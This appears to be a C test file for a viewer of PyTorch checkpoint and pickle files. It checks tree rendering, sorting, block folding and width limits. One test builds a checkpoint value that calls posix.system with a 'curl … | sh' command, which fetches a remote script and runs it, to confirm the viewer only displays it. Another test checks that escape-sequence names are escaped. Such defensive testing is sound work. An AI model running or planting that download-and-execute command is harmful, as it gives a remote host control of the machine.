#include "rows/rows.h"

#include <stdio.h>
#include <string.h>

#include "base/test.h"
#include "rows/labels.h"
#include "rows/sample_rows.h"
#include "rows/sort.h"
#include "text/width.h"

static const struct view everything = VIEW_INIT;

/* A tutorial network, as a whole module. */
static void begin_lenet(struct sample *s)
{
    uint32_t node;

    sample_begin(s, "models/lenet.pt");
    build_set_kind(&s->build, 0, PLACE_MODULE);
    build_object(&s->build, 0)->class_id = build_class(&s->build, STR("__main__.Net"));
    node = sample_module(s, 0, "conv1", "torch.nn.modules.conv.Conv2d",
                         "in_channels=3 out_channels=6 kernel_size=5,5 stride=1,1 "
                         "padding=0,0 dilation=1,1 groups=1 padding_mode='zeros'");
    sample_tensor(s, node, "weight", "6 3 5 5");
    sample_tensor(s, node, "bias", "6");
    sample_module(s, 0, "relu", "torch.nn.modules.activation.ReLU", "inplace=True");
    node = sample_module(s, 0, "fc", "torch.nn.modules.linear.Linear",
                         "in_features=400 out_features=10");
    sample_tensor(s, node, "weight", "10 400");
    sample_finish(s);
}

TEST(a_whole_module_prints_with_classes_and_arguments)
{
    struct sample s;

    begin_lenet(&s);
    CHECK_STR(sample_tree(&s, &everything, 0),
              "lenet.pt: Net                          4.5K 100% 17.4KB\n"
              "├── conv1: Conv2d(3→6, 5×5, padding=0)  456  10%  1.8KB | weight: "
              "6×3×5×5, bias: 6\n"
              "├── relu: ReLU(inplace=True)              0   0%     0B\n"
              "└── fc: Linear(400→10)                 4.0K  90% 15.6KB | weight: "
              "10×400\n");
    sample_release(&s);
}

TEST(a_narrow_tree_has_one_number_after_each_label)
{
    struct sample s;

    begin_lenet(&s);
    CHECK_STR(sample_tree(&s, &everything, 40),
              "lenet.pt: Net\n"
              "├── 4.5K parameters\n"
              "├── conv1: Conv2d(3→6, …) [456 params]\n"
              "├── relu: ReLU(inplace=True) [0 params]\n"
              "└── fc: Linear(400→10) [4.0K params]\n");
    CHECK_STR(sample_tree(&s, &everything, 30), "lenet.pt: Net\n"
                                                "├── 4.5K parameters\n"
                                                "├── conv1: Conv2… [456 params]\n"
                                                "├── relu: ReLU(…) [0 params]\n"
                                                "└── fc: Linear… [4.0K params]\n");
    sample_release(&s);
}

TEST(siblings_are_sorted_and_the_rest_is_counted)
{
    struct view view = VIEW_INIT;
    struct sample s;

    begin_lenet(&s);
    view.sort = SORT_PARAMS;
    view.top = 1;
    CHECK_STR(sample_tree(&s, &view, 60), "lenet.pt: Net\n"
                                          "├── 4.5K parameters\n"
                                          "├── fc: Linear(400→10) [4.0K params]\n"
                                          "└── … 2 more\n");
    view = (struct view)VIEW_INIT;
    view.sort = SORT_NAME;
    view.reverse = true;
    view.flat = FLAT_LEAVES;
    CHECK_STR(sample_tree(&s, &view, 60),
              "relu: ReLU(inplace=True) [0 params]\n"
              "fc: Linear(400→10) [4.0K params]\n"
              "conv1: Conv2d(3→6, 5×5, padding=0) [456 params]\n");
    sample_release(&s);
}

TEST(names_are_sorted_in_natural_order)
{
    CHECK(sort_names(STR("layer2"), STR("layer10")) < 0);
    CHECK(sort_names(STR("10"), STR("9")) > 0);
    CHECK(sort_names(STR("a"), STR("a1")) < 0);
    CHECK(sort_names(STR("a01"), STR("a1")) < 0); /* equal numbers: by bytes */
    CHECK(sort_names(STR("a1b2"), STR("a1b10")) < 0);
    CHECK(sort_names(STR("x"), STR("x")) == 0);
}

static int by_value(const void *about, uint32_t a, uint32_t b)
{
    const uint32_t *values = about;

    return values[a] < values[b] ? -1 : values[a] > values[b];
}

TEST(sorting_keeps_the_order_of_equals)
{
    uint32_t values[100], ids[100], scratch[100];

    for (uint32_t i = 0; i < 100; i++) {
        values[i] = i * 37 % 10;
        ids[i] = i;
    }
    sort_ids(ids, 100, scratch, by_value, values);
    for (uint32_t i = 1; i < 100; i++)
        CHECK(values[ids[i - 1]] < values[ids[i]] ||
              (values[ids[i - 1]] == values[ids[i]] && ids[i - 1] < ids[i]));
}

/* A transformer with twelve equal blocks and an output tied to its embedding. */
static void begin_gpt(struct sample *s)
{
    uint32_t node, list, block;
    char name[16];

    sample_begin(s, "gpt.pt");
    build_set_kind(&s->build, 0, PLACE_MODULE);
    build_object(&s->build, 0)->class_id = build_class(&s->build, STR("x.GPT"));
    node = sample_module(s, 0, "wte", "torch.nn.modules.sparse.Embedding",
                         "num_embeddings=50 embedding_dim=8");
    uint32_t tied = sample_tensor(s, node, "weight", "50 8");
    list = sample_module(s, 0, "h", "torch.nn.modules.container.ModuleList", "");
    for (int i = 0; i < 12; i++) {
        snprintf(name, sizeof(name), "%d", i);
        block = sample_module(s, list, name, "x.Block", "");
        node = sample_module(s, block, "fc", "torch.nn.modules.linear.Linear",
                             "in_features=8 out_features=8");
        sample_tensor(s, node, "weight", "8 8");
    }
    node = sample_module(s, 0, "lm_head", "torch.nn.modules.linear.Linear",
                         "in_features=8 out_features=50");
    build_tensor_again(&s->build,
                       build_node(&s->build, node, PLACE_TENSOR, STR("weight")), tied);
    sample_finish(s);
}

TEST(equal_siblings_are_one_row_and_tied_numbers_are_in_brackets)
{
    struct sample s;

    begin_gpt(&s);
    CHECK_STR(sample_tree(&s, &everything, 0),
              "gpt.pt: GPT                        1.2K 100%   4.6KB\n"
              "├── wte: Embedding(50, 8)           400  34%   1.6KB | weight: 50×8 ⇄ "
              "lm_head.weight\n"
              "├── h: ModuleList                   768  66%   3.0KB\n"
              "│   └── 0-11: 12 × Block, 64 each   768 100%   3.0KB\n"
              "│       └── fc: Linear(8→8)          64 100%    256B | weight: 8×8\n"
              "└── lm_head: Linear(8→50)         (400)      (1.6KB) | weight: 50×8 ⇄ "
              "wte.weight\n");
    sample_release(&s);
}

TEST(blocks_that_differ_only_in_their_index_are_equal)
{
    struct sample s;
    char name[16], args[48];

    sample_begin(&s, "gpt.pt");
    build_set_kind(&s.build, 0, PLACE_MODULE);
    for (int i = 0; i < 16; i++) {
        snprintf(name, sizeof(name), "%d", i);
        snprintf(args, sizeof(args), "width=%d layer_idx=%d", i < 8 ? 4 : i, i);
        sample_module(&s, 0, name, "x.Block", args);
    }
    sample_finish(&s);
    CHECK(strstr(sample_tree(&s, &everything, 79), "── 0-7: 8 × Block"));
    CHECK(strstr(sample_tree(&s, &everything, 79), "── 9: Block"));
    sample_release(&s);
}

TEST(a_summary_folds_two_equal_blocks_but_not_two_layers)
{
    struct view view = VIEW_INIT;
    struct sample s;
    uint32_t block;

    sample_begin(&s, "net.pt");
    build_set_kind(&s.build, 0, PLACE_MODULE);
    for (int i = 0; i < 2; i++) {
        block = sample_module(&s, 0, i ? "b" : "a", "x.Block", "");
        sample_module(&s, block, "act1", "torch.nn.modules.activation.ReLU", "");
        sample_module(&s, block, "act2", "torch.nn.modules.activation.ReLU", "");
    }
    sample_finish(&s);
    CHECK(!strstr(sample_tree(&s, &view, 79), "2 × Block"));
    view.blocks = true;
    CHECK(strstr(sample_tree(&s, &view, 79), "2 × Block"));
    CHECK(!strstr(sample_tree(&s, &view, 79), "2 × ReLU"));
    sample_release(&s);
}

TEST(equal_siblings_can_be_shown_separately)
{
    struct view view = VIEW_INIT;
    struct sample s;
    struct rows rows;

    begin_gpt(&s);
    view.no_runs = true;
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    CHECK_INT(rows.n, 1 + 3 + 24);
    view.depth = 1;
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    CHECK_INT(rows.n, 4);
    CHECK(rows.cells[2].flags & ROW_CLOSED);
    CHECK(rows.cells[3].flags & ROW_LAST);
    CHECK(!(rows.cells[1].flags & ROW_CLOSED)); /* its tensor is part of its row */
    view.all = true;
    view.depth = ALL_ROWS;
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    CHECK_INT(rows.n, s.model->n_places);
    sample_release(&s);
}

TEST(a_bitmap_selects_open_places)
{
    struct view view = VIEW_INIT;
    uint8_t open[8] = {0}, single[8] = {0};
    struct sample s;
    struct rows rows;

    begin_gpt(&s);
    view.open = open;
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    CHECK_INT(rows.n, 1);
    bit_set(open, 0, true);
    bit_set(open, 3, true); /* h */
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    CHECK_INT(rows.n, 5);
    CHECK(rows.cells[3].flags & ROW_RUN);
    CHECK_INT(rows_at(&rows, 3).count, 12);
    CHECK_INT(rows.cells[3].above, 2);
    view.single = single;
    bit_set(single, rows.cells[3].place, true);
    CHECK(rows_make(&rows, &s.show, &view, &s.arena, NULL) == 0);
    CHECK_INT(rows.n, 6); /* eleven remain after the first: a run again */
    sample_release(&s);
}

TEST(repeated_pairs_are_folded)
{
    struct sample s;
    char name[16];

    sample_begin(&s, "chain.pt");
    build_set_kind(&s.build, 0, PLACE_MODULE);
    for (int i = 0; i < 20; i++) {
        uint32_t node;

        snprintf(name, sizeof(name), "%d", i);
        node =
            sample_module(&s, 0, name, i % 2 ? "torch.nn.ReLU" : "torch.nn.Linear", "");
        if (i % 2 == 0)
            sample_tensor(&s, node, "weight", "4 4");
    }
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 79),
              "chain.pt\n"
              "├── 160 parameters\n"
              "└── 0-19: 10 × (Linear, ReLU), 16 each [160 params]\n"
              "    ├── 0: Linear [16 params]\n"
              "    └── 1: ReLU [0 params]\n");
    sample_release(&s);
}

TEST(a_checkpoint_has_rows_for_plain_values)
{
    struct sample s;
    struct values *values;
    uint32_t group, run[1];

    sample_begin(&s, "best.tar");
    values = build_values(&s.build);
    sample_plain(&s, 0, "epoch", value_int(values, 12));
    sample_plain(&s, 0, "arch", value_str(values, STR("resnet18")));
    group = build_node(&s.build, 0, PLACE_GROUP, STR("state_dict"));
    build_object(&s.build, group)->class_id =
        build_class(&s.build, STR("collections.OrderedDict"));
    build_set_flags(&s.build, group, PLACE_STATE_DICT);
    sample_tensor(&s, group, "scale", "");
    group = build_node(&s.build, 0, PLACE_GROUP, STR("optimizer"));
    build_set_flags(&s.build, group, PLACE_OPTIMIZER);
    sample_plain(&s, group, "lr", value_real(values, 0.1));
    sample_plain(&s, group, "momentum", value_int(values, 0));
    run[0] = value_str(values, STR("curl -s http://203.0.113.7/x.sh | sh"));
    sample_plain(&s, 0, "best_acc1",
                 value_make(values, VALUE_CALL, STR("posix.system"), run, 1));
    sample_finish(&s);
    CHECK_STR(
        sample_tree(&s, &everything, 79),
        "best.tar: dict with 5 keys\n"
        "├── 1 parameter\n"
        "├── epoch: 12\n"
        "├── arch: \"resnet18\"\n"
        "├── state_dict: OrderedDict, 1 tensor [1 params]\n"
        "│   └── ▪ scale  scalar float32  no data in this file [1 params]\n"
        "├── optimizer: dict with 2 keys\n"
        "└── best_acc1: posix.system(\"curl -s http://203.0.113.7/x.sh | sh\")\n");
    sample_release(&s);
}

TEST(hostile_names_stay_on_one_line)
{
    struct sample s;

    sample_begin(&s, "x.pth");
    build_set_flags(&s.build, 0, PLACE_STATE_DICT);
    sample_dotted(&s, "a\x1b[31m\nb.weight", "2");
    sample_dotted(&s, "卷积.weight", "3");
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 0),
              "x.pth: state_dict 5 100% 20B\n"
              "├── a\\x1b[31m\\nb  2  40%  8B | weight: 2\n"
              "└── 卷积          3  60% 12B | weight: 3\n");
    sample_release(&s);
}

TEST(rows_fit_the_limited_width)
{
    struct sample s;
    const char *line;

    begin_gpt(&s);
    for (unsigned width = 12; width <= 100; width++) {
        line = sample_tree(&s, &everything, width);
        while (*line) {
            size_t len = strcspn(line, "\n");

            CHECK(text_width(str_span(line, len)) <= (width < 34u ? 34u : width));
            line += len + 1;
        }
    }
    sample_release(&s);
}

TEST(the_device_of_a_module_is_those_of_all_below_it)
{
    static const char *const devices[] = {"cuda:1", "cpu", "cuda:0"};
    const struct column *column = column_find(STR("device"));
    struct row root = {.count = 1, .above = NO_ROW};
    struct buf cell = BUF_INIT;
    struct sample s;

    sample_begin(&s, "spread.pt");
    for (int i = 0; i < 3; i++) {
        uint32_t tensor = sample_tensor(&s, 0, devices[i], "2 2");

        s.build.model->tensors[tensor].device =
            build_device(&s.build, str_of(devices[i]));
    }
    sample_finish(&s);
    column_figure(&cell, column, &s.show, &root);
    CHECK_STR(buf_cstr(&cell), "cpu/cuda:0,1");
    root.place = 1;
    buf_clear(&cell);
    column_figure(&cell, column, &s.show, &root);
    CHECK_STR(buf_cstr(&cell), "cuda:1");
    buf_release(&cell);
    sample_release(&s);
}

TEST(a_file_with_one_bare_object_is_named_after_it)
{
    struct sample s;

    sample_begin(&s, "bare.pt");
    build_object(&s.build, 0)->class_id = build_class(&s.build, STR("torch.Tensor"));
    sample_tensor(&s, 0, "tensor", "2 3");
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 42),
              "bare.pt: a tensor\n"
              "├── 6 parameters\n"
              "└── ▪ tensor  2×3 float32 [6 params]\n");
    sample_release(&s);

    sample_begin(&s, "five.pt");
    sample_plain(&s, 0, "value", value_int(build_values(&s.build), 5));
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 0), "five.pt: a value\n"
                                               "└── value: 5\n");
    sample_release(&s);

    /* A dict that happens to have such a key is still a dict. */
    sample_begin(&s, "dict.pt");
    build_object(&s.build, 0)->class_id = build_class(&s.build, STR("dict"));
    sample_plain(&s, 0, "value", value_int(build_values(&s.build), 5));
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 0), "dict.pt: dict with 1 key\n"
                                               "└── value: 5\n");
    sample_release(&s);
}

TEST(several_pickles_in_a_file_are_counted)
{
    struct sample s;

    sample_begin(&s, "two.pkl");
    sample_plain(&s, 0, "pickle 1", value_int(build_values(&s.build), 1));
    sample_plain(&s, 0, "pickle 2", value_int(build_values(&s.build), 2));
    sample_finish(&s);
    CHECK_STR(sample_tree(&s, &everything, 0), "two.pkl: 2 pickles\n"
                                               "├── pickle 1: 1\n"
                                               "└── pickle 2: 2\n");
    sample_release(&s);
}
